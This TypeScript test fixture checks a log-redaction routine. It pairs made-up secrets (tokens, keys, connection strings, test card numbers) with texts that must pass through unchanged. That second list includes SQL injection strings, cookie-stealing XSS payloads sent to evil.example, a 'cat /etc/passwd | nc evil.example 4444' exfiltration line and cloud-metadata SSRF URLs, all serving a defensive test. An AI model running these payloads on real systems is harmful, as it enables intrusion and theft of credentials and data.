/**
 * What a log must not hold, and what it must not lose. Every secret here is made up; those with an issuer's prefix are
 * put together at run time, so that scanners of repositories do not take them for real ones.
 */
export interface SecretCase {
  readonly name: string;
  readonly text: string;
  /** The bytes of which none may stay. */
  readonly secrets: readonly string[];
}

const filler = 'Zq7Xw9Kv3Tn5Rb1Lc8Jd2Hf6Gm4Ps0YaZq7Xw9Kv3Tn5Rb1Lc8Jd2Hf6Gm4Ps0YaZq7Xw9Kv3Tn5Rb1Lc8Jd2';
const hex = '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08';

/** A token of an issuer's shape. */
function issued(prefix: string, length: number, from: string = filler): string {
  return `${prefix}${from.slice(0, length)}`;
}

function secret(name: string, text: string, ...secrets: readonly string[]): SecretCase {
  return { name, text, secrets: secrets.length > 0 ? secrets : ['tr0ub4-Qx'] };
}

const jwt = `${issued('ey', 1, 'J')}hbGciOiJIUzI1NiJ9.${issued('ey', 1, 'J')}zdWIiOiIxMjM0In0.${filler.slice(0, 43)}`;
const pemBody = `MIIEvQIBADANBgkqhkiG9w0BAQEFAASC${filler.slice(0, 32)}`;
const pem = (kind: string): string => `-----BEGIN ${kind}-----\n${pemBody}\n-----END ${kind}-----`;

export const secretCases: readonly SecretCase[] = Object.freeze([
  // Parameters of URLs and forms.
  secret('query password', 'https://api.example.com/login?user=bob&password=tr0ub4-Qx&next=/home'),
  secret('query token', '/reset?token=tr0ub4-Qx'),
  secret('query access_token', 'https://h/cb#access_token=tr0ub4-Qx&token_type=bearer&expires_in=3600'),
  secret('query api_key', 'https://h/v1?api_key=tr0ub4-Qx&q=1'),
  secret('query apikey', 'https://h/v1?apikey=tr0ub4-Qx'),
  secret('query with a comma and a semicolon', 'https://h/?password=hunter2,Qx;zz9&page=2', 'hunter2,Qx;zz9'),
  secret(
    'query value that is encoded',
    'https://h/?password=hunter2%26Qx%3Dzz&page=2',
    'hunter2%26Qx%3Dzz',
    'Qx%3Dzz',
  ),
  secret('nested field of a form', 'user[name]=bob&user[password]=tr0ub4-Qx&commit=ok'),
  secret('nested field, encoded', 'user%5Bpassword%5D=tr0ub4-Qx&user%5Bname%5D=bob'),
  secret(
    'form with confirmation',
    'password_confirmation=tr0ub4-Qx&password1=tr0ub4-Qx&newPassword2=tr0ub4-Qx',
  ),
  secret('encoded once', 'next=%2Flogin%3Fpassword%3Dtr0ub4-Qx%26page%3D2'),
  secret('encoded twice', 'next=%252Flogin%253Fpassword%253Dtr0ub4-Qx%2526page'),
  secret(
    'encoded value inside an encoded pair',
    'u=%2Fa%3Fpassword%3Dhunter2%2526Qx',
    'hunter2%2526Qx',
    'hunter2',
    'Qx',
  ),
  secret('encoded JSON', 'state=%7B%22password%22%3A%22tr0ub4-Qx%22%2C%22a%22%3A1%7D'),
  secret('signature of a URL', `https://b.s3.amazonaws.com/k?X-Amz-Signature=${hex}&X-Amz-Expires=60`, hex),
  secret('shared access signature', 'https://a.blob.core.windows.net/c?sv=2022&sig=tr0ub4-Qx%3D&se=2027'),
  secret('OAuth code', `/callback?code=${filler.slice(0, 24)}&state=open`, filler.slice(0, 24)),
  secret('Google key', `https://maps/api?key=${issued('AIza', 35)}`, filler.slice(0, 35)),
  secret('session in the query', '/chat;jsessionid=tr0ub4-Qx?room=1'),
  secret(
    'multipart form',
    'Content-Disposition: form-data; name="password"\r\n\r\ntr0ub4-Qx two\r\n--b',
    'tr0ub4-Qx two',
    'two',
  ),

  // JSON.
  secret('JSON password', '{"user":"bob","password":"tr0ub4-Qx","remember":true}'),
  secret('JSON with spaces', '{ "apiKey" : "tr0ub4-Qx" }'),
  secret(
    'JSON password with quotes',
    '{"password":"hun\\"ter2-Qx,} &z","a":1}',
    'hun\\"ter2-Qx,} &z',
    'ter2-Qx',
  ),
  secret('JSON password that ends with a backslash', '{"password":"tr0ub4-Qx\\\\","a":"b"}'),
  secret('JSON inside JSON', '{"body":"{\\"password\\":\\"tr0ub4-Qx\\",\\"a\\":1}"}'),
  secret(
    'JSON inside JSON with a quote',
    '{"body":"{\\"password\\":\\"hunt\\\\\\"er2-Qx\\"}"}',
    'hunt',
    'er2-Qx',
  ),
  secret('JSON PIN', '{"pin":483920,"attempts":2}', '483920'),
  secret('JSON list', '{"passwords":["tr0ub4-Qx","other-Zz9"],"a":1}', 'tr0ub4-Qx', 'other-Zz9'),
  secret('JSON list of tokens', '{"tokens":["tr0ub4-Qx","other-Zz9"],"a":1}', 'tr0ub4-Qx', 'other-Zz9'),
  secret('JSON cut in the value', '{"password":"tr0ub4-Qx'),
  secret('JSON client secret', '{"client_id":"web","client_secret":"tr0ub4-Qx"}'),
  secret('JSON refreshToken', '{"refreshToken":"tr0ub4-Qx","scope":"read"}'),
  secret('name and value', '[{"name":"password","value":"tr0ub4-Qx"}]'),
  secret('a hidden field', '<input type="hidden" name="csrf_token" value="tr0ub4-Qx">'),
  secret('single quotes', "{ secret: 'tr0ub4-Qx', b: 2 }"),
  secret('a template literal', 'const password = `tr0ub4-Qx`;'),
  secret('XML', '<login><user>bob</user><password>tr0ub4-Qx</password></login>'),
  secret('Ruby hash', '{:password=>"tr0ub4-Qx", :a=>1}'),
  secret('Python dict', "{'user': 'bob', 'password': 'tr0ub4-Qx'}"),

  // Headers.
  secret('Authorization Bearer', 'Authorization: Bearer tr0ub4-Qx'),
  secret('Authorization Basic', 'authorization: Basic Ym9iOmh1bnRlcjI=', 'Ym9iOmh1bnRlcjI'),
  secret(
    'Authorization Digest',
    'Authorization: Digest username="bob", response="6629fae49393a05397450978507c4ef1"',
    '6629fae49393a05397450978507c4ef1',
  ),
  secret(
    'Authorization AWS',
    `Authorization: AWS4-HMAC-SHA256 Credential=bob/20260101, Signature=${hex}`,
    hex,
  ),
  secret('Proxy-Authorization', 'Proxy-Authorization: Basic Ym9iOmh1bnRlcjI=', 'Ym9iOmh1bnRlcjI'),
  secret('Authorization as JSON', '{"authorization":"Bearer tr0ub4-Qx","accept":"*/*"}'),
  secret('Bearer alone', 'sent Bearer tr0ub4-Qx9 to the server', 'tr0ub4-Qx9'),
  secret('Basic alone', 'sent Basic Ym9iOmh1bnRlcjI= to the server', 'Ym9iOmh1bnRlcjI'),
  secret('Cookie', 'Cookie: theme=dark; sid=tr0ub4-Qx; lang=de'),
  secret('Cookie with quotes', 'Cookie: a="tr0ub4-Qx"; b=2'),
  secret('Set-Cookie', 'Set-Cookie: __Host-session=tr0ub4-Qx; Path=/; HttpOnly; Secure'),
  secret('Set-Cookie of Express', 'set-cookie: connect.sid=s%3Atr0ub4-Qx.abc; Path=/'),
  secret('cookie pair of Express', 'connect.sid=s%3Atr0ub4-Qx.abcdef'),
  secret('cookie pair of PHP', 'PHPSESSID=tr0ub4-Qx; lang=en'),
  secret('cookies as JSON', '{"cookie":"theme=dark; sid=tr0ub4-Qx","host":"h"}'),
  secret('X-Api-Key', 'X-Api-Key: tr0ub4-Qx'),
  secret('X-Auth-Token', 'X-Auth-Token: tr0ub4-Qx'),
  secret('X-CSRF-Token', 'X-CSRF-Token: tr0ub4-Qx'),
  secret('header in a list', "['x-api-key', 'a'], x-api-key=tr0ub4-Qx"),
  secret('a header, encoded', 'header=Authorization%3A%20Bearer%20tr0ub4-Qx'),
  secret('a header smuggled into a URL', 'http://h/%0d%0aAuthorization:%20Bearer%20tr0ub4-Qx'),

  // Connection strings.
  secret('PostgreSQL', 'postgres://app:tr0ub4-Qx@db.internal:5432/app'),
  secret(
    'PostgreSQL with at and slash',
    'postgresql://app:hunter2@Qx/zz9@db:5432/app',
    'hunter2@Qx/zz9',
    'hunter2',
    'zz9',
  ),
  secret('MongoDB', 'mongodb+srv://app:tr0ub4-Qx@cluster0.example.net/test?retryWrites=true'),
  secret('Redis without a user', 'redis://:tr0ub4-Qx@cache:6379/0'),
  secret('AMQP', 'amqps://guest:tr0ub4-Qx@mq/vhost'),
  secret('MySQL in an error', 'connect ECONNREFUSED mysql://root:tr0ub4-Qx@10.0.0.5/app'),
  secret('HTTP user information', 'https://bob:tr0ub4-Qx@example.com/a'),
  secret('HTTP token as user', 'https://tr0ub4-Qx:x-oauth-basic@github.com/a/b.git'),
  secret('HTTP user information, encoded', 'url=https%3A%2F%2Fbob%3Atr0ub4-Qx%40example.com%2F'),
  secret('ADO.NET', 'Server=db;Database=app;User Id=sa;Password=tr0ub4-Qx;Encrypt=true'),
  secret('ADO.NET Pwd', 'Server=db;Uid=sa;Pwd=tr0ub4-Qx;'),
  secret(
    'Azure storage',
    'DefaultEndpointsProtocol=https;AccountName=a;AccountKey=tr0ub4-Qx+zz/9==;EndpointSuffix=x',
    'tr0ub4-Qx+zz/9==',
    'zz/9',
  ),
  secret('libpq', 'host=db user=app password=tr0ub4-Qx dbname=app'),
  secret('libpq quoted', "host=db password='hunter2 Qx zz9' dbname=app", 'hunter2 Qx zz9', 'zz9'),
  secret('JDBC', 'jdbc:sqlserver://db:1433;databaseName=app;user=sa;password=tr0ub4-Qx;encrypt=true'),

  // Variables, options, prose.
  secret('environment', 'DB_PASSWORD=tr0ub4-Qx NODE_ENV=production'),
  secret(
    'environment, secret key',
    'AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYzz',
    'wJalrXUtnFEMI/K7MDENG/bPxRfiCYzz',
    'K7MDENG',
  ),
  secret('YAML', 'db:\n  user: app\n  password: tr0ub4-Qx\n'),
  secret('command line', 'mysqldump --user root --password tr0ub4-Qx app'),
  secret('command line with =', 'curl --token=tr0ub4-Qx https://h'),
  secret('prose password', 'the password: tr0ub4-Qx was tried'),
  secret('prose API key', 'API key: hunter2Qx', 'hunter2Qx'),
  secret('prose verification code', 'your verification code: 483920', '483920'),
  secret('prose PIN', 'PIN: 4839', '4839'),
  secret('one-time password', 'otp=483920', '483920'),
  secret('CVV', 'cvv=483&exp=12/29', '=483'),
  secret('social security number', 'ssn=078-05-1120', '078-05-1120'),

  // Their own shape.
  secret('JWT', `saw ${jwt} twice`, jwt, filler.slice(0, 43)),
  secret('JWT in a path', `/verify/${jwt}`, jwt),
  secret('private key', pem('PRIVATE KEY'), pemBody),
  secret('RSA private key', pem('RSA PRIVATE KEY'), pemBody),
  secret('OpenSSH private key', pem('OPENSSH PRIVATE KEY'), pemBody),
  secret(
    'encrypted key with headers',
    pem('RSA PRIVATE KEY').replace('\n', '\nDEK-Info: AES-128-CBC,1A2B\n\n'),
    pemBody,
  ),
  secret('OpenPGP key', pem('PGP PRIVATE KEY BLOCK'), pemBody),
  secret('private key in JSON', JSON.stringify({ key: pem('PRIVATE KEY') }), pemBody),
  secret('private key without its end', pem('PRIVATE KEY').slice(0, 80), pemBody.slice(0, 40)),
  secret('private key, encoded', encodeURIComponent(pem('PRIVATE KEY')), pemBody),
  secret('AWS key id', `key ${issued('AKIA', 16, 'Q7XW9KV3TN5RB1LC')}`, 'Q7XW9KV3TN5RB1LC'),
  ...(
    [
      ['GitHub', 'ghp_', 36],
      ['GitHub, fine-grained', 'github_pat_', 60],
      ['GitLab', 'glpat-', 20],
      ['Slack bot', 'xoxb-1234567890-', 24],
      ['Stripe', 'sk_live_', 24],
      ['Stripe, restricted', 'rk_live_', 24],
      ['Stripe webhook', 'whsec_', 32],
      ['Anthropic', 'sk-ant-api03-', 60],
      ['OpenAI project', 'sk-proj-', 60],
      ['OpenAI', 'sk-', 48],
      ['npm', 'npm_', 36],
      ['PyPI', 'pypi-AgEIcHlwaS5vcmc', 60],
      ['Hugging Face', 'hf_', 34],
      ['DigitalOcean', 'dop_v1_', 64],
      ['Shopify', 'shpat_', 32],
      ['SendGrid', 'SG.abcdefghijklmnopqrstuv.', 43],
      ['Google OAuth', 'ya29.', 60],
      ['Google client secret', 'GOCSPX-', 28],
      ['Vault', 'hvs.', 24],
      ['Grafana', 'glsa_', 40],
      ['Linear', 'lin_api_', 40],
      ['Figma', 'figd_', 40],
      ['Atlassian', 'ATATT3x', 80],
    ] as const
  ).map(([name, prefix, length]) =>
    secret(`${name} token`, `saw ${issued(prefix, length)} in a body`, filler.slice(0, length)),
  ),
  secret('Twilio key', `saw ${issued('SK', 32, hex)} there`, hex.slice(0, 32)),
  secret('Databricks', `saw ${issued('dapi', 32, hex)} there`, hex.slice(0, 32)),
  secret(
    'Slack webhook',
    `https://hooks.slack.com/services/${issued('T0000/B0000/', 24)}`,
    filler.slice(0, 24),
  ),
  secret(
    'Discord webhook',
    `https://discord.com/api/webhooks/1234567890/${filler.slice(0, 60)}`,
    filler.slice(0, 60),
  ),
  secret(
    'Telegram bot',
    `https://api.telegram.org/bot${issued('123456789:AA', 33)}/getMe`,
    filler.slice(0, 33),
  ),
  secret('bcrypt', `$2b$12$${filler.slice(0, 53)}`, filler.slice(0, 53)),
  secret(
    'argon2',
    `$argon2id$v=19$m=65536,t=3,p=4$${filler.slice(0, 22)}$${filler.slice(0, 43)}`,
    filler.slice(0, 22),
  ),

  // Cards: the numbers that issuers publish for tests.
  ...(
    [
      ['Visa', '4111111111111111'],
      ['Visa with spaces', '4111 1111 1111 1111'],
      ['Visa with hyphens', '4012-8888-8888-1881'],
      ['Mastercard', '5555555555554444'],
      ['Mastercard, 2 series', '2223003122003222'],
      ['American Express', '378282246310005'],
      ['American Express with spaces', '3782 822463 10005'],
      ['Discover', '6011111111111117'],
      ['Diners Club', '3056 930902 5904'],
      ['JCB', '3530111333300000'],
      ['UnionPay', '6200000000000005'],
    ] as const
  ).map(([name, number]) =>
    secret(`card: ${name}`, `paid with ${number}, thank you`, number, number.slice(0, 12)),
  ),
  secret('card in JSON', '{"number":"4111111111111111","exp":"12/29"}', '41111111'),
  secret('card in a form', 'card=4111+1111+1111+1111&exp=1229', '1111+1111'),
  secret('IBAN', 'IBAN DE89 3704 0044 0532 0130 00', '3704 0044', '0532 0130'),
  secret('card, encoded', 'card=4111%201111%201111%201111&exp=1229', '1111%201111', '1111 1111'),
]);

/** What guards see every day, and what an investigator needs: it comes through as it is. */
export const ordinaryTexts: readonly string[] = Object.freeze([
  // Words that only sound like secrets.
  'password reset page',
  'The password must be at least 12 characters long.',
  'password: must not be empty',
  'password: required',
  '{"password":null,"passwordRequired":true}',
  'https://example.com/password/reset?step=2',
  'https://example.com/forgot-password',
  'token ring',
  'Unexpected token < in JSON at position 0',
  'unexpected token: semicolon',
  'token_type=bearer&expires_in=3600',
  '{"max_tokens":4096,"total_tokens":512}',
  '/v1/projects/p/secrets:list',
  '/v1/token:refresh',
  'the secretary: Ms. Miller',
  'secretariat=Geneva',
  'Secrets of the sea',
  'bearer of bad news',
  'bearer token is missing',
  'basic knowledge of chemistry',
  'digest authentication is not supported',
  'authorization: required',
  'author=Astrid+Lindgren&authority=city',
  'cookie policy: see /legal/cookies',
  'cookie: chocolate chip',
  'cookies=accepted',
  'session: afternoon',
  'sessions=5',
  'pass: 12, fail: 3',
  'passenger=3&compass=north&passage=a',
  'PWD=/srv/app',
  'primary_key=id&sort_key=name&cache_key=products:list:12345678',
  'key=name&value=red',
  'monkey=banana&keyboard=qwerty',
  'state=open&code=404',
  '{"code":"fetch/private-address","state":"California"}',
  '{"errorCode":"ERR_INVALID_URL"}',
  'pin=left&spinner=1',
  'signature dish of the house',
  'design=modern&assign=bob',
  'opinion: pins are 5 euros',
  'auth=none',
  'otter=1&sidebar=open&inside=2',

  // Code and SQL, as guards for them see it.
  'select password from users where id = 7',
  'select * from users where token = $1 and password = ?',
  'update users set password = :password, token = @token where id = %s',
  'where p.token = q.token and a.session_id = b.session_id',
  "' or '1'='1' --",
  '1; drop table users; --',
  "' union select username, password from users --",
  '<input type="password" name="password" autocomplete="off">',
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror="fetch(`//evil.example/?c=`+document.cookie)">',
  '"><svg onload=alert(1)>',
  'javascript:alert(1)',
  '{{constructor.constructor("return process")()}}',
  '../../../etc/passwd',
  'file:///etc/passwd',
  '; cat /etc/passwd | nc evil.example 4444',

  // Destinations.
  'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
  'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
  'http://user@10.0.0.5/',
  'http://good.example@evil.example/',
  'http://[::ffff:127.0.0.1]:8080/',
  'http://127.0.0.1:6379/%0D%0ASET%20x%201',
  'http://0x7f.1/',
  'https://example.com:8443/a:b@c/d?e=f',
  'gopher://127.0.0.1:11211/_stats',
  'https://example.com/?q=100%25&lang=de%2Den',
  'https://example.com/search?q=how+to+reset+a+password',
  'mailto:bob@example.com',
  'ldap://ldap.example/cn=admin,dc=example',

  // Numbers and identifiers.
  'order 1234567890123456',
  'order number 2026-1124-0001-7734',
  'ISBN 978-3-16-148410-0',
  'ISBN 9783161484100',
  'call +49 30 901820 or +1 (555) 010-9999',
  'tel:+4915112345678',
  'f47ac10b-58cc-4372-a567-0e02b2c3d479',
  '00000000-4111-1111-1111-111111111111',
  hex,
  'sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=',
  'd41d8cd98f00b204e9800998ecf8427e',
  'commit 2403346a9c1f0b7e6d5c4b3a29181706f5e4d3c2',
  'timestamp 1795536000000',
  '0.4111111111111111',
  '1795536000000000000',
  'IBAN DE88 3704 0044 0532 0130 00 has a wrong check digit',
  '4 8 15 16 23 42',
  'npm_config_registry=https://registry.example/',
  'from huggingface_hub import hf_hub_download',
  'sk-test-suite-runner',
  'xapp-configuration-loader',
  'task-risk-desk-AIzation',
  'GET /products?page=2&sort=-price HTTP/1.1',
  'R\u00e9sum\u00e9 \u2013 \u65e5\u672c\u8a9e \u{1f600} \u{1f468}\u200d\u{1f469}\u200d\u{1f467}',
  '\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645',
  '-----BEGIN CERTIFICATE----- MIIB',
  '',
]);
